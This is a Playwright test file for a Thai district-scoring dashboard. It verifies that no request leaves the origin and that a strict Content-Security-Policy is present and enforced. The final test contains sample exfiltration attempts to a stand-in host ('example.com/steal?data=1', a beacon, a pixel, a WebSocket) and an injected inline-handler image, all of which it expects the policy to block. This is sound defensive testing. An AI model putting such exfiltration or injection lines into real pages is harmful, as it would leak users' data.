/**
 * Issue 7 §1: no data leaves the origin. Every request the browser makes — the page's, its workers' (DuckDB's
 * worker fetches the WASM: seeing it proves worker requests are recorded), service workers, WebSockets — is
 * recorded while the demo loads, files are uploaded, every view is opened and every export is made (CSV, PNG,
 * JSON, print); any request to another origin, and any Content-Security-Policy violation (an attempt the policy
 * blocked), fails the test. Then the policy itself: present on every page, and enforced.
 */
import { expect, test, type BrowserContext, type Download, type Page } from '@playwright/test';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';

const here = path.dirname(fileURLToPath(import.meta.url));
const fixtures = path.join(here, 'fixtures');

/** Records what leaves the page: requests by URL, and what the policy blocked. */
class Recorder {
  readonly urls: string[] = [];
  readonly foreign: string[] = [];
  readonly workers: string[] = [];
  constructor(
    readonly origin: string,
    context: BrowserContext
  ) {
    context.on('request', (request) => this.note(request.url(), request.resourceType()));
    context.on('serviceworker', (worker) => this.foreign.push(`service worker ${worker.url()}`));
    context.on('page', (page) => this.watch(page));
    for (const page of context.pages()) this.watch(page);
  }

  private watch(page: Page): void {
    page.on('websocket', (socket) => this.foreign.push(`websocket ${socket.url()}`));
    page.on('worker', (worker) => this.workers.push(worker.url()));
  }

  private note(url: string, type: string): void {
    this.urls.push(url);
    const local = url.startsWith('data:') || url.startsWith('blob:') || new URL(url).origin === this.origin;
    if (!local) this.foreign.push(`${type} ${url}`);
  }

  async violations(page: Page): Promise<string[]> {
    return page.evaluate(() => (window as unknown as { __csp: string[] }).__csp ?? []);
  }
}

/** Collects CSP violations in every page (the init script runs before the app's scripts, outside the policy). */
async function recordViolations(context: BrowserContext): Promise<void> {
  await context.addInitScript(() => {
    const list: string[] = [];
    (window as unknown as { __csp: string[] }).__csp = list;
    document.addEventListener('securitypolicyviolation', (event) =>
      list.push(`${event.effectiveDirective} ${event.blockedURI}`)
    );
  });
}

async function downloadFrom(page: Page, click: () => Promise<void>): Promise<Download> {
  const [download] = await Promise.all([page.waitForEvent('download'), click()]);
  expect(await download.failure()).toBeNull();
  return download;
}

const VIEWS: { path: string; nav: string; ready: (page: Page) => ReturnType<Page['getByRole']> }[] = [
  { path: '/', nav: 'อันดับ', ready: (p) => p.getByRole('table', { name: 'อันดับอำเภอ' }) },
  {
    path: '/trends/',
    nav: 'แนวโน้ม',
    ready: (p) => p.getByRole('img', { name: 'คะแนนรวมถ่วงน้ำหนักรายเดือน', exact: true })
  },
  {
    path: '/compare/',
    nav: 'เปรียบเทียบ',
    ready: (p) => p.getByRole('img', { name: 'คะแนนรวมของสองช่วงเวลา', exact: true })
  },
  { path: '/missions/', nav: 'ภารกิจ', ready: (p) => p.getByRole('table', { name: 'จำนวนอำเภอในแต่ละระดับ' }) },
  { path: '/misses/', nav: 'ไม่ถึงเป้า', ready: (p) => p.getByRole('table', { name: 'รายการที่ไม่ถึงเป้าหมาย' }) },
  {
    path: '/district/',
    nav: 'รายอำเภอ',
    ready: (p) => p.getByRole('table', { name: 'ผลการประเมินตนเองตามตัวชี้วัด' })
  },
  { path: '/rules/', nav: 'เกณฑ์', ready: (p) => p.getByRole('region', { name: 'ดาวน์โหลดเกณฑ์' }) },
  { path: '/data/', nav: 'ข้อมูล', ready: (p) => p.getByRole('table', { name: 'ไฟล์ที่นำเข้าแล้ว' }) }
];

/** The export buttons of each view (CSV, PNG, JSON). */
const EXPORTS: Record<string, string[]> = {
  '/': ['ดาวน์โหลด CSV'],
  '/trends/': ['ดาวน์โหลด PNG: คะแนนรวมถ่วงน้ำหนักรายเดือน'],
  '/compare/': ['ดาวน์โหลดตาราง (CSV)', 'ดาวน์โหลด PNG: คะแนนรวมของสองช่วงเวลา'],
  '/missions/': ['ดาวน์โหลดตาราง (CSV)'],
  '/misses/': ['ดาวน์โหลดรายการ (CSV)'],
  '/district/': ['ดาวน์โหลดแบบรายงาน (CSV)'],
  '/data/': ['ส่งออกพื้นที่ทำงาน (ไฟล์เดียว)']
};

test('no request leaves the origin: demo, upload, every view, every export, print', async ({
  page,
  context,
  baseURL
}) => {
  test.setTimeout(240_000);
  const origin = new URL(baseURL!).origin;
  await recordViolations(context);
  const recorder = new Recorder(origin, context);
  const downloads: string[] = [];

  await page.goto('/');
  await expect(VIEWS[0].ready(page).locator('tbody tr').first()).toBeVisible();

  // Upload a framework with results (its rejected rows and changed values have their own downloads).
  await page.goto('/data/');
  const input = page.getByLabel('เลือกไฟล์ที่จะนำเข้า');
  await expect(input).toBeEnabled();
  await input.setInputFiles([
    path.join(fixtures, 'upload-framework', 'framework.csv'),
    path.join(fixtures, 'upload-framework', 'kpis.csv'),
    path.join(fixtures, 'upload-framework', 'levels.csv'),
    path.join(fixtures, 'upload-results.csv')
  ]);
  const check = page.getByRole('region', { name: 'ตรวจสอบก่อนนำเข้า' });
  await check.getByRole('button', { name: 'นำเข้า', exact: true }).click();
  const result = page.getByRole('status', { name: 'ผลการนำเข้า' });
  const rejected = await downloadFrom(page, () =>
    result.getByRole('button', { name: 'ดาวน์โหลดแถวที่ใช้ไม่ได้ (CSV)' }).click()
  );
  downloads.push(rejected.suggestedFilename());
  await input.setInputFiles([path.join(fixtures, 'upload-results-corrected.csv')]);
  await check.getByRole('button', { name: 'นำเข้า', exact: true }).click();
  const changes = await downloadFrom(page, () =>
    result.getByRole('button', { name: 'ดาวน์โหลดรายการค่าที่เปลี่ยน (CSV)' }).click()
  );
  downloads.push(changes.suggestedFilename());

  // Every view of the demo framework (the upload switched to its own), reached by the navigation bar.
  await page.goto('/?f=chachoengsao-2565-r2&p=FY2565-Q4');
  await expect(VIEWS[0].ready(page).locator('tbody tr').first()).toBeVisible();
  for (const view of [...VIEWS.slice(1), VIEWS[0]]) {
    await page
      .getByRole('navigation', { name: 'หลัก' })
      .getByRole('link', { name: view.nav, exact: true })
      .click();
    await expect(page).toHaveURL(new RegExp(`${view.path.replace(/\//g, '\\/')}(\\?|$)`));
    await expect(view.ready(page)).toBeVisible();
    for (const button of EXPORTS[view.path] ?? []) {
      const file = await downloadFrom(page, () =>
        page.getByRole('button', { name: button, exact: true }).click()
      );
      downloads.push(file.suggestedFilename());
    }
    if (view.path === '/rules/') {
      const buttons = page.getByRole('region', { name: 'ดาวน์โหลดเกณฑ์' }).getByRole('button');
      for (let i = 0; i < (await buttons.count()); i++) {
        downloads.push((await downloadFrom(page, () => buttons.nth(i).click())).suggestedFilename());
      }
    }
    if (view.path === '/' || view.path === '/district/') {
      // Print: the button and the print rendering itself. The browser's own print job is replaced by a
      // counter: headless Chromium prints asynchronously, and a page.pdf() while that job runs fails with
      // "Page is already being printed" (seen once in a loaded full run).
      await page.evaluate(() => {
        const counted = window as unknown as { printCalls?: number };
        counted.printCalls = 0;
        window.print = () => void (counted.printCalls = (counted.printCalls ?? 0) + 1);
      });
      await page.getByRole('button', { name: 'พิมพ์', exact: true }).click();
      expect(await page.evaluate(() => (window as unknown as { printCalls?: number }).printCalls)).toBe(1);
      await page.emulateMedia({ media: 'print' });
      expect((await page.pdf({ format: 'A4' })).length).toBeGreaterThan(10_000);
      await page.emulateMedia({ media: 'screen' });
      downloads.push(`print ${view.path}`);
    }
  }

  // Trends' small charts: their PNGs too.
  await page.goto('/trends/');
  const small = page.getByRole('button', { name: /^ดาวน์โหลด PNG: / });
  await expect(small.nth(1)).toBeVisible();
  downloads.push((await downloadFrom(page, () => small.nth(1).click())).suggestedFilename());

  console.log(
    `[privacy] ${recorder.urls.length} requests observed, ${new Set(recorder.urls).size} distinct; ` +
      `${downloads.length} exports: ${downloads.join(', ')}; workers: ${recorder.workers.length}`
  );
  expect(recorder.foreign).toEqual([]);
  expect(await recorder.violations(page)).toEqual([]);
  // The DuckDB worker's own fetch of its WASM was recorded: requests from workers are seen too.
  expect(recorder.urls.some((url) => /duckdb-(eh|mvp)\.[\w-]+\.wasm$/.test(url))).toBe(true);
  expect(recorder.workers.length).toBeGreaterThanOrEqual(2); // DuckDB's and the file reader's
  // 11 CSV (rejected rows, changed values, league, compare, missions, misses, district, the 4 framework files),
  // 3 PNG, 2 JSON (framework, workspace), 2 prints.
  expect(downloads.filter((d) => d.endsWith('.csv'))).toHaveLength(11);
  expect(downloads.filter((d) => d.endsWith('.png'))).toHaveLength(3);
  expect(downloads.filter((d) => d.endsWith('.json'))).toHaveLength(2);
  expect(downloads.filter((d) => d.startsWith('print'))).toHaveLength(2);
});

/** The directives the policy must hold, whatever else it says. */
const REQUIRED = [
  "default-src 'self'",
  "connect-src 'self'",
  "object-src 'none'",
  "font-src 'self'",
  "worker-src 'self'",
  "base-uri 'self'",
  "form-action 'none'"
];

function directives(policy: string): Map<string, string[]> {
  return new Map(
    policy
      .split(';')
      .map((part) => part.trim().split(/\s+/))
      .filter((words) => words[0])
      .map(([name, ...values]) => [name, values])
  );
}

test('every page carries a Content-Security-Policy that forbids other origins', async ({ page }) => {
  const build = path.join(here, '..', 'build');
  const pages = readdirSync(build, { recursive: true, encoding: 'utf8' }).filter(
    (file) => file.endsWith('.html') && statSync(path.join(build, file)).isFile()
  );
  expect(pages.length).toBeGreaterThanOrEqual(8);
  for (const file of pages) {
    const html = readFileSync(path.join(build, file), 'utf8');
    const meta = /<meta http-equiv="content-security-policy" content="([^"]+)">/.exec(html);
    expect(meta, file).not.toBeNull();
    const policy = meta![1].replaceAll('&#39;', "'").replaceAll('&quot;', '"');
    for (const directive of REQUIRED) expect(policy, file).toContain(directive);
    const script = directives(policy).get('script-src') ?? [];
    expect(script).not.toContain("'unsafe-inline'");
    expect(script).not.toContain("'unsafe-eval'");
    for (const value of [...directives(policy).values()].flat())
      expect(value, file).not.toMatch(/^(https?:|\*$)/);
    // The meta tag comes before any script.
    expect(html.indexOf('content-security-policy')).toBeLessThan(html.indexOf('<script'));
  }

  await page.goto('/');
  const policy = await page.locator('meta[http-equiv="content-security-policy"]').getAttribute('content');
  expect(policy).toContain("connect-src 'self'");
});

test('the policy is enforced: the page cannot reach another origin or run injected markup', async ({
  page,
  context
}) => {
  await recordViolations(context);
  await page.goto('/');
  await expect(page.getByRole('table', { name: 'อันดับอำเภอ' }).locator('tbody tr').first()).toBeVisible();
  const outcome = await page.evaluate(async () => {
    const results: Record<string, string> = {};
    try {
      await fetch('https://example.com/steal?data=1', { mode: 'no-cors' });
      results.fetch = 'sent';
    } catch (error) {
      results.fetch = `blocked: ${String(error)}`;
    }
    navigator.sendBeacon('https://example.com/beacon', 'data'); // says true even when blocked: see the violations
    const image = new Image();
    image.src = 'https://example.com/pixel.png';
    try {
      new WebSocket('wss://example.com/socket');
      results.websocket = 'created';
    } catch (error) {
      results.websocket = `blocked: ${String(error)}`;
    }
    // Markup with an inline handler, as if a text had been inserted as HTML.
    document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="window.__ran = true">');
    const style = document.createElement('link');
    style.rel = 'stylesheet';
    style.href = 'https://fonts.example.com/css';
    document.head.append(style);
    await new Promise((resolve) => setTimeout(resolve, 500));
    results.inline = String((window as unknown as { __ran?: boolean }).__ran ?? false);
    return results;
  });
  expect(outcome.fetch).toMatch(/^blocked/);
  expect(outcome.inline).toBe('false');
  const violations = await page.evaluate(() => (window as unknown as { __csp: string[] }).__csp);
  expect(violations).toEqual(
    expect.arrayContaining([
      'connect-src https://example.com/steal?data=1',
      'connect-src https://example.com/beacon',
      'img-src https://example.com/pixel.png',
      'connect-src wss://example.com/socket',
      'script-src-attr inline',
      'style-src-elem https://fonts.example.com/css'
    ])
  );
});
